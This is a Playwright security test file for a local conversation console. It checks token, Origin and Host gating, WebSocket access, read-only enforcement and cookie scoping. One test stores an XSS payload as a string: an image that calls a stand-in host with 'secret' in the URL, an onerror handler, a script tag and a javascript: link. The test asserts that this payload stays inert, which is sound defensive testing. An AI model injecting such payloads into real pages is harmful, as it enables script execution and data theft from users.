import { createServer, request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import WebSocket from 'ws';
import { expect, saveScreen, test, useEnvironment, watchForeignRequests } from './support/fixtures.js';

function rawRequest(host: string, port: number, headers: Record<string, string>, path = '/api/environments.list'): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host, port, path, method: 'POST', headers: { 'content-type': 'application/json', ...headers } }, (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on('error', reject);
    req.end('{}');
  });
}

function openSocket(url: string, headers: Record<string, string>): Promise<{ opened: boolean; status: number | null }> {
  return new Promise((resolve) => {
    const socket = new WebSocket(url, { headers });
    socket.once('open', () => {
      socket.close();
      resolve({ opened: true, status: 101 });
    });
    socket.once('unexpected-response', (_req, res) => {
      resolve({ opened: false, status: res.statusCode ?? null });
      socket.terminate();
    });
    socket.once('error', () => resolve({ opened: false, status: null }));
  });
}

test.describe('the console server gate', () => {
  test('refuses requests without the token, with a foreign Origin or a forged Host', async ({ console: info }) => {
    const origin = info.baseUrl;
    expect(await rawRequest(info.host, info.port, {})).toBe(401);
    expect(await rawRequest(info.host, info.port, { authorization: 'Bearer wrong-token-wrong-token' })).toBe(401);
    expect(await rawRequest(info.host, info.port, { authorization: `Bearer ${info.token}` })).toBe(200);
    expect(await rawRequest(info.host, info.port, { authorization: `Bearer ${info.token}`, origin: 'http://evil.example' })).toBe(403);
    expect(await rawRequest(info.host, info.port, { authorization: `Bearer ${info.token}`, host: `evil.example:${info.port}` })).toBe(403);
    // Static files need the token too.
    const page = await fetch(`${origin}/`);
    expect(page.status).toBe(401);
  });

  test('refuses a WebSocket opened without the token or from a foreign Origin', async ({ console: info }) => {
    const url = `ws://${info.host}:${info.port}/api/ws`;
    expect(await openSocket(url, {})).toEqual({ opened: false, status: 401 });
    expect(await openSocket(url, { authorization: `Bearer ${info.token}`, origin: 'http://evil.example' })).toEqual({ opened: false, status: 403 });
    expect(await openSocket(url, { authorization: `Bearer ${info.token}`, host: `evil.example:${info.port}` })).toEqual({ opened: false, status: 403 });
    expect((await openSocket(url, { authorization: `Bearer ${info.token}` })).opened).toBe(true);
  });
});

test('a hostile message renders as inert text and nothing leaves the page', async ({ signedIn: page, console: info }) => {
  const foreign = watchForeignRequests(page, info.baseUrl);
  const payload = '<img src="http://203.0.113.9/leak.png?c=secret" onerror="window.__pwned=1"><script>window.__pwned=2</script> [x](javascript:alert(1))';
  const turn = await page.evaluate(
    async ({ environmentId, content }) => {
      const response = await fetch('/api/playground.send', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ environmentId, content, responder: { kind: 'scripted' } }),
      });
      return (await response.json()) as { ok: boolean; data: { conversationId: string } };
    },
    { environmentId: info.environments.demo, content: payload },
  );
  expect(turn.ok).toBe(true);
  await page.goto(`${info.baseUrl}/#/conversation/${encodeURIComponent(turn.data.conversationId)}/transcript`);
  const message = page.getByRole('article', { name: /user message/ });
  await expect(message).toContainText('<img src="http://203.0.113.9/leak.png');
  await expect(message).toContainText('<script>window.__pwned=2</script>');
  await expect(page.locator('img[src*="203.0.113.9"]')).toHaveCount(0);
  await expect(page.locator('main script')).toHaveCount(0);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  await saveScreen(page, 'security-hostile-message');
  // The raw event log and the replay render it as text as well.
  await page.getByRole('tab', { name: /Raw events/ }).click();
  await expect(page.getByLabel(/^Events 1–/)).toContainText('203.0.113.9');
  await page.goto(`${info.baseUrl}/#/replay/${encodeURIComponent(turn.data.conversationId)}`);
  await expect(page.getByRole('article', { name: /user message/ })).toContainText('<script>');
  await expect(page.locator('img[src*="203.0.113.9"]')).toHaveCount(0);
  expect(foreign).toEqual([]);
});

test('read-only is enforced by the server, and the refusal is shown', async ({ signedIn: page, console: info }) => {
  // On a read-only environment every write control is disabled, with the reason in words…
  await useEnvironment(page, 'Production replica');
  await page.goto(`${info.baseUrl}/#/conversations`);
  await page.getByRole('listbox', { name: 'Conversations' }).locator('[role=option]').first().dblclick();
  await expect(page.getByRole('toolbar', { name: 'Conversation actions' })).toBeVisible();
  await expect(page.getByText(/Actions disabled: Production replica is read-only/)).toBeVisible();
  for (const name of ['Rename', 'Evict from cache', 'Re-warm', 'Delete']) {
    await expect(page.getByRole('button', { name, exact: true })).toBeDisabled();
  }
  await saveScreen(page, 'security-read-only');
  // …and the server refuses the write anyway when the page sends it.
  const refused = await page.evaluate(async (environmentId) => {
    const response = await fetch('/api/conversation.rename', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ environmentId, conversationId: 'demo-0001', title: 'pwned' }),
    });
    return { status: response.status, body: (await response.json()) as { ok: boolean; error?: { code: string } } };
  }, info.environments.production);
  expect(refused.status).toBe(403);
  expect(refused.body.error?.code).toBe('READ_ONLY');

  // A page that still believes an environment is writable gets the server's refusal on screen.
  await useEnvironment(page, 'Hybrid staging');
  await page.goto(`${info.baseUrl}/#/conversations`);
  await page.getByRole('listbox', { name: 'Conversations' }).locator('[role=option]').first().dblclick();
  await expect(page.getByRole('button', { name: 'Rename', exact: true })).toBeEnabled();
  const setReadOnly = (readOnly: boolean) =>
    fetch(`${info.baseUrl}/api/environments.update`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${info.token}` },
      // Lifting read-only is a lowering of protection: the request must confirm it.
      body: JSON.stringify({ environmentId: info.environments.hybrid, readOnly, ...(readOnly ? {} : { confirm: 'lower-protection' }) }),
    });
  expect((await setReadOnly(true)).status).toBe(200);
  try {
    await page.getByRole('button', { name: 'Rename', exact: true }).click();
    await page.getByRole('dialog', { name: 'Rename conversation' }).getByLabel('New title').fill('Should be refused');
    await page.getByRole('dialog').getByRole('button', { name: 'Rename' }).click();
    await expect(page.getByRole('alert').filter({ hasText: 'Refused: this environment is read-only' }).first()).toBeVisible();
    await saveScreen(page, 'security-read-only-refusal');
  } finally {
    expect((await setReadOnly(false)).status).toBe(200);
  }
});

test('the session cookie is not sent to other servers on 127.0.0.1', async ({ signedIn: page, console: info }) => {
  // Cookies ignore ports: a console on 127.0.0.1 would hand its token to every local dev server.
  const cookies: Array<string | undefined> = [];
  const other = createServer((req, res) => {
    cookies.push(req.headers.cookie);
    res.writeHead(200, { 'content-type': 'text/plain' }).end('another local server');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  try {
    const port = (other.address() as AddressInfo).port;
    await page.goto(`http://127.0.0.1:${port}/`);
    await expect(page.getByText('another local server')).toBeVisible();
    expect(cookies.length).toBeGreaterThan(0);
    for (const cookie of cookies) expect(cookie ?? '').not.toContain(info.token);
  } finally {
    await new Promise<void>((resolve) => other.close(() => resolve()));
  }
});

test('a masked environment refuses search until content is revealed, and says so', async ({ signedIn: page, console: info }) => {
  await useEnvironment(page, 'Production replica');
  await page.goto(`${info.baseUrl}/#/conversations`);
  await page.getByRole('search').getByLabel('Search title and content').fill('refund');
  await expect(page.getByRole('alert').filter({ hasText: 'Search is off while' })).toBeVisible();
  await page.getByRole('button', { name: 'Reveal message content' }).click();
  await expect(page.getByRole('alert').filter({ hasText: 'Search is off while' })).toHaveCount(0);
  await expect(page.getByRole('listbox', { name: 'Conversations' })).toBeVisible();
  await page.getByRole('button', { name: 'Mask message content' }).click();
});
